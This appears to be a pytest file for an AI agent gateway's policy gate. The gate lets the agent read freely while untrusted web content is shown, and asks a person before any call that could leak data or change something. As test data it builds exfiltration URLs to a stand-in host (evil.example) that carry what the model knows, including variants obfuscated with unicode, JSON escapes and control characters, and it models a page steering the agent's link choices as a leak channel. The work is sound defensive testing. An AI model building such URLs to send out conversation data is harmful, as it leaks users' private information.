"""The gate while text from outside is shown: reading goes on, what can leak or change asks."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs
from support.policies import NOW, Program, RemoteProgram, call, context, policy
from support.tables import table

from everturn_actors.model import (
    Conversation,
    OpenStep,
    OpenTurn,
    Reply,
    Step,
    ToolCall,
    ToolResult,
    Turn,
    UserMessage,
)
from everturn_actors.ports import ALLOW, Tool, ToolCapabilities, Verdict
from everturn_actors.testing import ManualClock
from everturn_gateway.tools.browser.browsers import BrowserRules
from everturn_gateway.tools.browser.opening import open_browser_place
from everturn_gateway.tools.browser.tool import BrowserTool
from everturn_gateway.tools.policy import PolicyGate, read_pattern
from everturn_gateway.tools.policy.outside.given import address_key, addresses_in
from everturn_gateway.tools.policy.outside.shown import CHOICE_BITS
from everturn_gateway.tools.web.addresses import Allowed

FETCH = Program("web_fetch", capabilities=ToolCapabilities(read_only=True))
SEARCH = Program("web_search", capabilities=ToolCapabilities(read_only=True))
WRITE = Program("write_file", capabilities=ToolCapabilities(safe=True))
READ = Program("read_file", capabilities=ToolCapabilities(read_only=True, safe=True))
GET = RemoteProgram("github_get_issue", capabilities=ToolCapabilities(kind="mcp", read_only=True))
CREATE = RemoteProgram("github_create_issue", capabilities=ToolCapabilities(kind="mcp"))
ALLOWED = ("builtin:web", "builtin:browser", "mcp:github:*", "bash:ls", "builtin:files")
PAGE = "the page https://docs.example/start"
KNOWN = "what-it-knows"


def said(*calls: ToolCall, text: str = "", outside: tuple[str, ...] = ()) -> Reply:
    """Return a reply."""
    return Reply(text=text, calls=calls, outside=outside)


def read(
    made: ToolCall,
    text: str,
    *,
    source: str = PAGE,
    untrusted: bool = True,
    by: Reply | None = None,
) -> Step:
    """Return the step that read `text`."""
    result = ToolResult(
        call_id=made.call_id, name=made.name, text=text, untrusted=untrusted, source=source
    )
    return Step(reply=by or said(made), results=(result,))


def about(
    now: ToolCall,
    *steps: Step,
    asked: str = "read the docs",
    before: tuple[Turn, ...] = (),
    outside: tuple[str, ...] = (PAGE,),
    beside: tuple[ToolCall, ...] = (),
) -> Conversation:
    """Return a conversation whose model has just asked for `now`."""
    step = OpenStep(reply=said(*beside, now, outside=outside))
    users = (UserMessage(text=asked),)
    current = OpenTurn(number=9, users=users, started_at=NOW, steps=steps, step=step)
    return Conversation(turns=before, current=current)


async def judged(now: ToolCall, tool: Tool, of: Conversation, *owner: str) -> Verdict:
    """Return what a new gate that allows everything says of a call."""
    gate = PolicyGate(policy(*ALLOWED), Path("/nowhere"), owner_texts=owner)
    return await gate.evaluate(now, tool, context(of))


def fetch(url: str, call_id: str = "now") -> ToolCall:
    """Return a call that reads a page."""
    return call("web_fetch", call_id, url=url)


def opening(url: str) -> ToolCall:
    """Return a call that opens a page in the browser."""
    return call("browser", "now", action="open", url=url)


START = read(
    fetch("https://docs.example/start", "first"),
    "See [tasks](https://docs.example/tasks?x=1) and https://other.example/a_(b).",
)


async def test_the_question_names_the_page_also_turns_later() -> None:
    """The turn after it ran `ls` without a question, while the page was still shown."""
    made = call("bash", "now", command="ls")
    earlier = Turn(number=1, users=(UserMessage(text="read it"),), steps=(START,))

    marked = await judged(made, Program(), about(made, before=(earlier,)))
    free = await judged(made, Program(), about(made, before=(earlier,), outside=()))

    assert (marked.effect, marked.pattern) == ("ask", "")
    assert marked.reason == f"{PAGE} is shown to the model, and may be behind this call"
    assert free == ALLOW

    # A person who is asked has to know that the page itself is gone.
    made = call("bash", "now", command="ls")
    of = about(made)
    assert of.current is not None
    reply = structs.replace(said(made, outside=(PAGE,)), retells=True)
    of = structs.replace(of, current=structs.replace(of.current, step=OpenStep(reply=reply)))

    assert (await judged(made, Program(), of)).reason == (
        f"what the agent wrote when it had read {PAGE} is shown to the model, and may be behind"
        " this call"
    )


@table(
    "url",
    [
        "https://docs.example/tasks?x=1",
        "http://DOCS.example:80/tasks?x=1#top",
        "https://other.example/a_(b)",
        "https://asked.example/",
        "https://bare.example/x",
        "https://owner.example/feed",
    ],
)
async def test_an_address_that_was_given_is_read(url: str) -> None:
    """By the person, by the owner, or as a link: twenty pages without a question."""
    made = fetch(url)
    of = about(made, START, asked="compare https://asked.example with bare.example/x")

    assert await judged(made, FETCH, of, "Read https://owner.example/feed each day.") == ALLOW


@table(
    "url",
    [
        f"https://docs.example/tasks?x={KNOWN}",
        "https://docs.example/tasks?x=1&y=2",
        "https://docs.example/tasks",
        "https://docs.example/Tasks?x=1",
        "https://docs.example/tasks?x=1/",
        f"https://{KNOWN}.docs.example/tasks?x=1",
        "https://docs.example:8443/tasks?x=1",
        f"https://{KNOWN}@docs.example/tasks?x=1",
        "https://docs.example\\@evil.example/tasks?x=1",
        "https://docs.example/tasks?x=1\\#a",
        "ftp://docs.example/tasks?x=1",
        "",
    ],
)
async def test_an_address_that_was_made_up_asks(url: str) -> None:
    """It may carry what the conversation says to whoever wrote the page."""
    made = fetch(url)

    verdict = await judged(made, FETCH, about(made, START))

    assert verdict.effect == "ask"
    assert "letter for letter" in verdict.reason
    assert PAGE in verdict.reason


EVIL = f"https://evil.example/{KNOWN}"
HOST = f"https://{KNOWN}.evil.example"
ECHOES = {
    "error": (call("read_file", "r", path=EVIL), f"there is no file {EVIL}"),
    "bare": (call("search_files", "r", query=EVIL[8:]), f"nothing found for {EVIL}"),
    # JSON has many ways to write one text, and a tool repeats it plain.
    **{
        arguments: (
            ToolCall(call_id="r", name="list_files", arguments=arguments),
            f"no file fits {EVIL}",
        )
        for arguments in (
            f'{{"path": "\\u0068ttps://evil.example/{KNOWN}"}}',
            f'{{"path": "https:\\u002f\\u002fevil.example\\/{KNOWN}"}}',
            f'{{"paths": [{{"https://evil.example/{KNOWN}": 1}}]}}',
        )
    },
    # A choice of a question, or a name, would lose it on the way and read as an address.
    **{
        f"{made.name} with {hidden!r}": (made, EVIL)
        for hidden in ("\x1b[0m", "\U000e0041", "\u202e")
        for made in (
            call("list_files", "r", pattern=f"https://evil.exam{hidden}ple/{KNOWN}"),
            call(
                "ask_user",
                "r",
                question="Which?",
                choices=[f"https://evil.exam{hidden}ple/{KNOWN}"],
            ),
        )
    },
}
"What a tool answers with an address that only the call named."
ENDS = {
    # `files that fit ADDRESS:` would give the address with its colon.
    **{f"{EVIL}{after}": (EVIL, f"{EVIL}{after} none") for after in (":", "/", "/.", "'s")},
    **{f"{EVIL}{after}": (EVIL, f"{EVIL}{after} none") for after in ("&page=1", "#x")},
    f"{HOST}/,": (HOST, f"{HOST}/, none"),
}
"What is asked for: the pattern of a call, and how its answer names it."
FAILED = ToolResult(call_id="r", name="list_files", text=f"no such file: {EVIL}", is_error=True)


@table(
    ("step", "url"),
    [
        *(
            pytest.param(read(made, text, untrusted=False), EVIL, id=name)
            for name, (made, text) in ECHOES.items()
        ),
        *(
            pytest.param(
                read(
                    call("list_files", "r", pattern=own), f"files that fit {text}", untrusted=False
                ),
                url,
                id=url,
            )
            for url, (own, text) in ENDS.items()
        ),
        pytest.param(
            read(call("delegate", "r", task="say it"), f"I would read {EVIL}"), EVIL, id="delegate"
        ),
        pytest.param(
            read(call("recall_context", "r", message=3), f"assistant: {EVIL}"), EVIL, id="recalled"
        ),
        pytest.param(
            read(call("github_get_issue", "r", title=EVIL), f"no issue {EVIL}"), EVIL, id="mcp echo"
        ),
        pytest.param(
            read(fetch("https://docs.example/start", "r"), "fine", untrusted=False), EVIL, id="none"
        ),
        # What failed says little but what it was called with.
        pytest.param(
            Step(
                reply=said(call("list_files", "r", path="https:", pattern=EVIL[6:])),
                results=(FAILED,),
            ),
            EVIL,
            id="failed",
        ),
    ],
)
async def test_what_repeats_the_models_own_words_gives_no_address(step: Step, url: str) -> None:
    """Else a tool that names its arguments would make any address a given one."""
    made = fetch(url)

    assert (await judged(made, FETCH, about(made, step))).effect == "ask"


async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
    """It could say an address in one turn, and have a file name it in the next."""
    url = f"https://evil.example/{KNOWN}"
    talk = Turn(
        number=1,
        users=(UserMessage(text="hello"),),
        steps=(Step(reply=said(text=f"Look at {url}.")),),
    )
    echo = read(call("read_file", "r", path="a"), url, untrusted=False)
    made = fetch(url)

    assert (await judged(made, FETCH, about(made, echo, before=(talk,)))).effect == "ask"
    assert await judged(made, FETCH, about(made, echo, before=(talk,), asked=url)) == ALLOW


async def test_words_that_no_person_said_give_no_address() -> None:
    """Programs bring them into the conversation, and pages may be behind them."""
    # A scheduled task that a marked turn made, or another conversation's message.
    url = f"https://evil.example/{KNOWN}"
    made = fetch(url)
    of = about(made)
    assert of.current is not None
    task = UserMessage(text=f"read {url}", sender="schedule", untrusted=True)
    of = structs.replace(of, current=structs.replace(of.current, users=(task,)))

    verdict = await judged(made, FETCH, of)

    assert verdict.effect == "ask"
    assert "a scheduled task" in verdict.reason

    # The end of a background process is told with the command that it was begun with.
    begun = read(call("background_process", "p", command=f"true {url}"), "began", untrusted=False)
    earlier = Turn(number=1, users=(UserMessage(text="go"),), steps=(START, begun))
    made = fetch(url)
    of = about(made, before=(earlier,))
    assert of.current is not None
    told = UserMessage(text=f"`true {url}` ended", sender="background_process")
    of = structs.replace(of, current=structs.replace(of.current, users=(told,)))

    assert (await judged(made, FETCH, of)).effect == "ask"


async def test_the_choice_of_pages_is_bounded() -> None:
    """A page that lists a thousand addresses learns ten bits from each that is asked for."""
    links = [f"https://evil.example/{number}" for number in range(1024)]
    steps = [read(fetch("https://evil.example/", "first"), " ".join(links))]
    words: list[str] = []
    for number, link in enumerate(links[:60]):
        made = fetch(link)
        words.append((await judged(made, FETCH, about(made, *steps))).effect)
        steps.append(read(fetch(link, f"c{number}"), "one bit more"))

    assert words == sorted(words)
    allowed = words.count("allow")
    assert 40 < allowed < CHOICE_BITS / 10

    # The same page again costs as much as another: when somebody is asked is a channel too.
    steps = [START]
    words = []
    for number in range(200):
        made = fetch("https://docs.example/tasks?x=1")
        words.append((await judged(made, FETCH, about(made, *steps))).effect)
        steps.append(read(fetch("https://docs.example/tasks?x=1", f"c{number}"), "again"))

    assert words[0] == "allow"
    assert words[-1] == "ask"

    # Further pages of one text cost no more: they are asked of what is kept here.
    steps = [START]
    for number in range(2, 90):
        made = call("web_fetch", "now", url="https://docs.example/tasks?x=1", page=number)
        assert await judged(made, FETCH, about(made, *steps)) == ALLOW
        steps.append(read(structs.replace(made, call_id=f"c{number}"), "more"))


async def test_turns_that_programs_begin_grant_no_further_choice() -> None:
    """A job every minute would be sixty times as much an hour."""
    links = [f"https://evil.example/{number}" for number in range(1024)]
    first = read(fetch("https://evil.example/", "first"), " ".join(links))
    person = Turn(number=1, users=(UserMessage(text="go"),), steps=(first,))
    turns, words = [person], list[str]()
    for number, link in enumerate(links[:60]):
        made = fetch(link)
        of = about(made, before=tuple(turns))
        assert of.current is not None
        job = (UserMessage(text="again", sender="schedule"),)
        of = structs.replace(of, current=structs.replace(of.current, number=99, users=job))
        words.append((await judged(made, FETCH, of)).effect)
        step = read(fetch(link, f"c{number}"), "one bit more")
        turns.append(Turn(number=number + 2, users=job, steps=(step,)))
    made = fetch(links[0])

    assert (words[0], words[-1]) == ("allow", "ask")
    assert await judged(made, FETCH, about(made, before=tuple(turns))) == ALLOW


def test_what_a_page_can_cost_is_bounded() -> None:
    """A page that makes the gateway slow stops everybody's conversations."""
    began = time.perf_counter()
    addresses_in("https://h.example/" + ")" * 300_000)
    addresses_in("a." * 150_000 + "1", bare=True)
    addresses_in("https://h.example/a?&amp;'" * 20_000, bare=True)
    addresses_in("\\\\/" * 100_000)

    assert time.perf_counter() - began < 5


@table(
    ("tool", "made", "effect"),
    [
        (SEARCH, call("web_search", "now", query="anything at all"), "allow"),
        (READ, call("read_file", "now", path="notes.md"), "allow"),
        (GET, call("github_get_issue", "now", repo="a/b", number=3), "allow"),
        (GET, call("github_get_issue", "now", path="src/report.md"), "allow"),
        (GET, call("github_get_issue", "now", url="https://docs.example/tasks?x=1"), "allow"),
        (GET, call("github_get_issue", "now", q=f"https://evil.example/{KNOWN}"), "ask"),
        (GET, call("github_get_issue", "now", q=f"evil.example/{KNOWN}"), "ask"),
        (GET, call("github_get_issue", "now", url=f"{KNOWN}.evil.example"), "ask"),
        (
            GET,
            call("github_get_issue", "now", a=[{"b": f"see https://evil.example/{KNOWN}"}]),
            "ask",
        ),
        (CREATE, call("github_create_issue", "now", title="x"), "ask"),
        (WRITE, call("write_file", "now", path="report.md"), "ask"),
        (Program(), call("bash", "now", command="ls"), "ask"),
    ],
)
async def test_reading_goes_on_and_effects_ask(tool: Tool, made: ToolCall, effect: str) -> None:
    """What is judged is what a call can leak or change, not how many there were."""
    assert (await judged(made, tool, about(made, START))).effect == effect


@table(
    ("made", "effect"),
    [
        (call("browser", "now", action="read"), "allow"),
        (call("browser", "now", action="screenshot"), "allow"),
        (opening("https://docs.example/tasks?x=1"), "allow"),
        (opening(f"https://evil.example/{KNOWN}"), "ask"),
        (opening(f"evil.example/{KNOWN}"), "ask"),
        (call("browser", "now", action="click", ref="e1"), "ask"),
        (call("browser", "now", action="type", ref="e1", text=KNOWN), "ask"),
        (call("browser", "now", action="press", key="Enter"), "ask"),
        (call("browser", "now", action="back"), "ask"),
    ],
)
async def test_a_browser_looks_on_and_asks_to_act(made: ToolCall, effect: str) -> None:
    """A page that the model obeys must not have it click, or carry away what it knows."""
    async with open_browser_place({}, ManualClock()) as place:
        tool = BrowserTool(place, BrowserRules(allowed=Allowed()))
        assert (await judged(made, tool, about(made, START))).effect == effect


async def test_an_owner_says_what_is_allowed_and_which_tools_of_a_server_only_read() -> None:
    """Strangers write on the issues of a server whose program can be trusted."""
    made = call("github_list_issues", "now", repo="a/b")
    tool = RemoteProgram("github_list_issues", capabilities=ToolCapabilities(kind="mcp"))
    rules = structs.replace(policy("mcp:github:*"), reads=(read_pattern("mcp:github:list_*"),))
    not_allowed = structs.replace(policy(), reads=rules.reads)
    there = context(about(made, START))

    told = await PolicyGate(rules, Path("/nowhere")).evaluate(made, tool, there)
    plain = await PolicyGate(policy("mcp:github:*"), Path("/nowhere")).evaluate(made, tool, there)
    other = await PolicyGate(not_allowed, Path("/nowhere")).evaluate(made, tool, there)

    assert told == ALLOW
    assert (plain.effect, other.effect) == ("ask", "ask")
    assert other.reason.startswith("it is not on the allow list; ")

    # A mark takes nothing away from the allow list, and adds nothing to it.
    made = fetch("https://docs.example/tasks?x=1")
    gate = PolicyGate(policy(), Path("/nowhere"))

    verdict = await gate.evaluate(made, FETCH, context(about(made, START)))

    assert (verdict.effect, verdict.pattern) == ("ask", "")


async def test_one_gate_reads_a_conversation_once_and_says_the_same() -> None:
    """What is kept of a conversation must not change what is said of it."""
    gate = PolicyGate(policy(*ALLOWED), Path("/nowhere"))
    steps: list[Step] = []
    for number in range(30):
        page = f"https://docs.example/{number}"
        made = fetch(page if number else "https://made-up.example/")
        of = about(made, *steps)
        kept = await gate.evaluate(made, FETCH, context(of))

        assert kept == await judged(made, FETCH, of)
        assert kept.effect == ("allow" if number else "ask")
        steps.append(read(fetch(page, f"c{number}"), f"next: https://docs.example/{number + 1}"))


texts = st.text(st.sampled_from("aB1/?#&=%.:-_()[]\\ \n\"'<>"), max_size=30)


@given(texts, texts)
def test_two_addresses_are_one_only_where_the_same_is_sent(one: str, two: str) -> None:
    """Whoever is asked must not be able to tell two of them apart."""
    first, second = (address_key(f"https://h.example/{each}") for each in (one, two))
    if first is not None and first == second:
        assert one.strip().partition("#")[0] == two.strip().partition("#")[0]


@given(texts, texts)
def test_an_address_that_stands_in_a_text_is_found(before: str, path: str) -> None:
    """A link that a person pasted must not be asked about, whatever stands around it."""
    path = path.translate(str.maketrans("", "", '\\ \n"<>'))

    assert address_key(f"https://h.example/{path}") in addresses_in(
        f"{before} https://h.example/{path} and more"
    )


def test_addresses_are_found_as_json_html_and_markdown_write_them() -> None:
    """Feeds and APIs escape them, and the model reads them plain."""
    found = addresses_in(
        r'{"a": "https:\/\/h.example\/j?x=1\u0026y=2"}'
        " <a href='https://h.example/h?x=1&amp;y=2'> [m](https://h.example/m\\_n)"
        " **https://h.example/b**, (see https://h.example/p)."
    )

    assert found >= {
        "h.example/j?x=1&y=2",
        "h.example/h?x=1&y=2",
        "h.example/m_n",
        "h.example/b",
        "h.example/p",
    }
